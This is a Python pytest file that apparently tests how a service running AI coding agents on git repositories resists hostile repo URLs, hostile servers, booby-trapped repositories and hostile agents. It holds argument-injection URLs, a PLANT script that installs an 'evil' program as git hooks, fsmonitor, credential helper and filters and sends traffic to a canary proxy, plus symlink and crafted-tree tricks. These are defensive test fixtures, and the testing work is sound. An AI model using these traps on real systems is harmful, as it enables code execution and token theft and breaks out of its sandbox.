"""Hostile jobs, repositories, servers and agents; traffic beyond loopback would be a failure too."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil
import pytest

from myctobot.contract.redaction import secret_encodings
from tests.factories.git_jobs import TOKEN, Job, Jobs
from tests.fixtures.git_server import GitServer, Pause, serve
from tests.fixtures.repos import branches, commit, git
from tests.fixtures.serving import serving
from workers.errors import JobError

pytestmark = pytest.mark.anyio


async def refusal(job: Job) -> JobError:
    with pytest.raises(JobError) as caught:
        await job.workspace.prepare()
    return caught.value


# --- Hostile jobs ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "--upload-pack=touch {canary}",
        "ext::sh -c touch% {canary}",
        "file:///etc",
        "/etc",
        "ssh://-oProxyCommand=touch${{IFS}}{canary}/x",
        "https://user:pass@localhost/repo.git",
        "https://localhost/repo.git\n--upload-pack=touch {canary}",
    ],
)
async def test_a_hostile_url_is_refused_before_anything_runs(jobs: Jobs, tmp_path: Path, url: str) -> None:
    canary = tmp_path / "canary"
    job = jobs(url=url.format(canary=canary))
    error = await refusal(job)
    assert error.code == "repo_url_invalid"
    assert str(error).startswith("repo_url ")
    assert not canary.exists()
    assert not (job.job_dir / "git").exists()


@pytest.mark.parametrize("name", ["a..b", "-x", "--force", "a b", "a\x07b", "x.lock", "refs/heads/x", "HEAD", "a\nb"])
@pytest.mark.parametrize("field", ["branch", "base"])
async def test_a_hostile_branch_name_is_refused(jobs: Jobs, server: GitServer, name: str, field: str) -> None:
    error = await refusal(jobs(**{field: name}))  # type: ignore[arg-type]  # one of two strings
    assert error.code == "branch_invalid"
    assert str(error).startswith(("branch ", "base_branch "))
    assert server.requests == []


@pytest.mark.parametrize(
    "host", ["localhost", "127.0.0.1", "10.0.0.8", "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254"]
)
async def test_a_private_host_is_refused_unless_allowed(jobs: Jobs, server: GitServer, host: str) -> None:
    error = await refusal(jobs(url=server.url("repo.git", host), allowed_private_hosts=frozenset()))
    # A name has the answer of an unknown one, so that tenants do not learn which internal names exist.
    assert error.code == ("repo_unreachable" if host == "localhost" else "repo_host_refused")
    assert "ask the operator to allow the host" in str(error)
    assert server.requests == []


@pytest.mark.parametrize("addresses", [["127.0.0.1"], ["93.184.216.34", "127.0.0.1"], ["::1"]])
async def test_a_public_name_with_a_private_address_is_refused(
    jobs: Jobs, server: GitServer, addresses: list[str]
) -> None:
    async def resolver(host: str, port: int) -> list[str]:
        return addresses

    error = await refusal(jobs(url=server.url("repo.git", "git.example.com"), resolver=resolver))
    assert error.code == "repo_unreachable"
    assert "an address that is not public" in str(error)
    assert server.requests == []


async def test_git_connects_to_the_address_that_was_checked(jobs: Jobs, server: GitServer) -> None:
    # The name does not exist here, so only the bound address can reach the server.
    async def resolver(host: str, port: int) -> list[str]:
        return ["127.0.0.1"]

    allowed = frozenset({"git.example.com"})
    job = jobs(url=server.url("repo.git", "git.example.com"), resolver=resolver, allowed_private_hosts=allowed)
    await job.workspace.prepare()
    assert server.requests


async def test_a_name_that_turns_private_before_the_push_is_refused(jobs: Jobs, server: GitServer) -> None:
    answer = ["127.0.0.1"]

    async def resolver(host: str, port: int) -> list[str]:
        return answer

    job = jobs(resolver=resolver)
    await job.workspace.prepare()
    answer.clear()
    await job.agent("echo new > new.txt")
    before = len(server.requests)
    with pytest.raises(JobError) as caught:
        await job.finish()
    assert caught.value.code == "repo_unreachable"
    assert len(server.requests) == before


# --- Hostile servers -------------------------------------------------------------------------------


async def test_a_redirect_gets_neither_the_token_nor_a_call(jobs: Jobs, server: GitServer, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    with serve(server.root, tmp_path / "elsewhere", TOKEN) as elsewhere:
        server.redirect_to = f"https://localhost:{elsewhere.port}"
        error = await refusal(jobs())
        assert elsewhere.requests == []
    assert error.code == "repo_moved"
    assert server.authorizations == []


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


@pytest.mark.parametrize("after", [0, 2, 5], ids=["listing", "fetching", "pushing"])
async def test_the_token_is_in_no_argument_list_environment_or_file(jobs: Jobs, server: GitServer, after: int) -> None:
    pause = Pause(after)
    server.held = pause
    job = jobs()

    async def work() -> None:
        await job.workspace.prepare()
        await job.agent("echo new > new.txt")
        await job.finish()

    task = asyncio.create_task(work())
    assert await asyncio.to_thread(pause.reached.wait, 30)
    children = psutil.Process().children(recursive=True)
    commands = b"\n".join(_read(path / "cmdline") for path in Path("/proc").glob("[0-9]*"))
    environments = b"\n".join(_read(Path(f"/proc/{child.pid}/environ")) for child in children)
    files = b"\n".join(_read(path) for path in job.job_dir.rglob("*") if path.is_file())
    pause.release()
    await task
    assert b"git-remote-https" in commands
    assert b"MYCTOBOT_GIT_FD" in environments
    assert b"#!/bin/sh" in files
    for spelling in secret_encodings(TOKEN):
        assert spelling.encode() not in commands + environments + files


# --- Hostile agents --------------------------------------------------------------------------------


@dataclass
class Canary:
    """HTTP server that no honest step of a job calls; it records all requests."""

    url: str
    seen: list[str]


@pytest.fixture
def canary() -> Iterator[Canary]:
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle(self) -> None:
            seen.append(self.connection.recv(65536).decode(errors="replace"))

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    with serving(server):
        yield Canary(f"http://127.0.0.1:{server.server_port}", seen)


# Writes its user and directory to a path of the host, which the sandbox does not have, and to the agent's home.
PLANT = """
cat > /home/agent/evil <<EOF
#!/bin/sh
echo "$1 \\$(id -u) \\$(readlink /proc/self/ns/pid)" >> {host}
echo "$1 \\$(id -u) \\$(readlink /proc/self/ns/pid)" >> /home/agent/fired
cat 2>/dev/null
exit 0
EOF
chmod +x /home/agent/evil
cp /home/agent/evil {host_script} 2>/dev/null || true
for hook in pre-commit commit-msg post-commit pre-push post-checkout reference-transaction post-index-change \
    update pre-receive post-receive pre-auto-gc post-rewrite; do
  mkdir -p .git/hooks; cp /home/agent/evil .git/hooks/$hook
done
mkdir -p /home/agent/hooks; cp .git/hooks/* /home/agent/hooks/
git config core.fsmonitor {script}
git config core.hooksPath {hooks}
git config core.sshCommand {script}
git config core.askPass {script}
git config core.pager {script}
git config core.editor {script}
git config core.alternateRefsCommand {script}
git config core.gitProxy {script}
git config credential.helper '!{script}'
git config diff.external {script}
git config diff.evil.textconv {script}
git config filter.evil.clean {script}
git config filter.evil.smudge {script}
git config filter.evil.process {script}
git config gpg.program {script}
git config commit.gpgSign true
git config uploadpack.packObjectsHook {script}
git config http.proxy {url}
git config http.sslVerify false
git config url.{url}/.insteadOf https://
git config url.{url}/push/.pushInsteadOf https://
git config remote.origin.url {url}/origin.git
git config remote.origin.pushurl {url}/origin.git
git config include.path /home/agent/more
git config --file /home/agent/.gitconfig core.hooksPath {hooks}
git config --file /home/agent/.gitconfig http.proxy {url}
mkdir -p .git/info
echo '* filter=evil diff=evil' > .gitattributes
echo '* filter=evil diff=evil' > .git/info/attributes
echo work > work.txt
git add work.txt
"""


async def test_an_agents_traps_run_nothing_outside_and_get_no_token(
    jobs: Jobs, server: GitServer, remote: Path, canary: Canary, tmp_path: Path
) -> None:
    job = jobs()
    await job.workspace.prepare()
    # The runner would see the agent's home under this name, so the traps are in both directories.
    outside = job.job_dir / "agent" / "home"
    for place in ("/home/agent", str(outside)):
        values = {
            "host": tmp_path / "fired-outside", "host_script": "/home/agent/copy", "url": canary.url,
            "script": f"{place}/evil", "hooks": f"{place}/hooks",
        }  # fmt: skip
        await job.agent(PLANT.format(**values))
        await job.workspace.commit_leftovers("Work of the agent")
    assert await job.workspace.collect() is not None
    await job.workspace.push()
    assert "work.txt" in git(remote, "ls-tree", "--name-only", "feature/ai")
    assert not (tmp_path / "fired-outside").exists()
    assert canary.seen == []
    fired = [line.split() for line in (outside / "fired").read_text().splitlines()]
    assert fired, "the planted programs must be able to run where they may"
    own = str(Path("/proc/self/ns/pid").readlink())
    assert all(namespace != own and (uid != "0" or os.getuid() != 0) for uid, namespace in fired)


async def test_a_repository_full_of_traps_runs_none(jobs: Jobs, remote: Path, tmp_path: Path) -> None:
    fired = tmp_path / "fired"
    script = f"#!/bin/sh\necho >> {fired}\n"
    work = remote.with_name("repo.git.work")
    traps = {
        ".gitattributes": "* filter=evil diff=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://localhost:1/x.git\n',
        ".githooks/post-checkout": script,
        "hooks/post-checkout": script,
        ".lfsconfig": "[lfs]\n\turl = https://localhost:1/lfs\n",
        "config": f"[core]\n\tfsmonitor = {fired}\n",
    }
    commit(work, traps)
    git(work, "push", "-q", str(remote), "main")
    job = jobs()
    await job.workspace.prepare()
    await job.agent("echo new > new.txt")
    await job.finish()
    assert not fired.exists()


async def test_symlinks_out_of_the_workspace_are_pushed_as_symlinks(jobs: Jobs, remote: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("the shard's own")
    job = jobs()
    await job.workspace.prepare()
    await job.agent(f"ln -s {tmp_path}/secret leak; ln -s / root; ln -s ../../git up")
    await job.finish()
    listing = git(remote, "ls-tree", "-r", "feature/ai")
    modes = {line.split("\t")[1]: line.split(" ")[0] for line in listing.splitlines()}
    assert {modes[name] for name in ("leak", "root", "up")} == {"120000"}
    assert git(remote, "show", "feature/ai:leak") == f"{tmp_path}/secret"


@pytest.mark.parametrize("target", ["{job}/git/clean.git", "/run/base", "/run/record/plain", "/"])
async def test_a_link_as_git_directory_reveals_no_file_of_the_shard(jobs: Jobs, remote: Path, target: str) -> None:
    job = jobs()
    await job.workspace.prepare()
    await job.agent(f"rm -rf .git; ln -s {target.format(job=job.job_dir)} .git; echo x > x")
    await job.finish()
    assert job.warnings() == ["repository_damaged"]
    assert git(remote, "diff", "--name-only", "main", "feature/ai") == "x"
    assert git(remote, "rev-list", "--count", "main..feature/ai") == "1"


async def test_a_tree_with_a_git_directory_inside_is_refused(jobs: Jobs, remote: Path) -> None:
    job = jobs()
    await job.workspace.prepare()
    # git itself would never write a tree with an entry named ".git".
    await job.agent(
        "blob=$(echo evil | git hash-object -w --stdin)\n"
        "inner=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)\n"
        "tree=$({ printf '40000 .git\\0'; echo $inner | sed 's/../\\\\\\\\x&/g' | xargs printf '%b'; }"
        " | git hash-object -t tree -w --stdin --literally)\n"
        "git update-ref HEAD $(git commit-tree -p HEAD -m evil $tree)\n"
        "git reset -q --soft; git read-tree --empty; git update-index --refresh || true\n"
    )
    with pytest.raises(JobError) as caught:
        await job.workspace.collect()
    assert caught.value.code == "changes_invalid"
    assert "hasDotgit" in str(caught.value)
    assert list(branches(remote)) == ["main"]
